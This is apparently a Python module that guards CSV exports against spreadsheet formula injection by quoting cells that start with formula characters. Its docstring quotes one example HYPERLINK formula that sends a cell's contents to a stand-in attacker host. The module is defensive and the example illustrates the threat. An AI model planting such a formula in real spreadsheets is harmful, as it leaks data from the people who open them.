"""CSV for people: cells a spreadsheet would run as formulas are neutralised (OWASP).

Every CSV that Tocsin writes for someone to open (report exports, refused rows of an
import, scores) goes through :func:`spreadsheet_safe`: an uploaded or reported value such
as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` must not become a live formula on an
analyst's machine.
"""

from __future__ import annotations

import csv
import io
import re
from typing import TYPE_CHECKING, TypeVar

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_STARTS", "spreadsheet_safe", "spreadsheet_safe_csv", "spreadsheet_safe_frame"]

#: The first characters that make Excel, LibreOffice or Google Sheets read a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A value that a spreadsheet reads as a plain number stays one: "-3", "+1.5", "-2e-3".
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

T = TypeVar("T")


def spreadsheet_safe(value: T) -> T | str:
    """``value`` with a leading single quote if it is text a spreadsheet would run.

    Numbers, None and text that parses as a plain number are returned as they are.

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x.example")')
    '\\'=HYPERLINK("http://x.example")'
    >>> spreadsheet_safe("-3"), spreadsheet_safe(-3), spreadsheet_safe("-1+1")
    ('-3', -3, "'-1+1")
    >>> spreadsheet_safe("Bangui")
    'Bangui'
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def spreadsheet_safe_csv(text: str) -> str:
    """CSV ``text`` with every cell passed through :func:`spreadsheet_safe`.

    For CSV made elsewhere (a plug-in's refused rows, kept as text) before it is served.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n" if "\r\n" in text else "\n")
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return out.getvalue()


def spreadsheet_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` for ``to_csv`` with its text cells passed through
    :func:`spreadsheet_safe`; numeric, boolean and date columns are left as they are."""
    out = frame.copy()
    for name in out.columns:
        # numpy's kinds: bool, signed and unsigned integers, floats, complex, dates, spans
        if out[name].dtype.kind not in "biufcmM":
            out[name] = out[name].map(spreadsheet_safe)
    return out
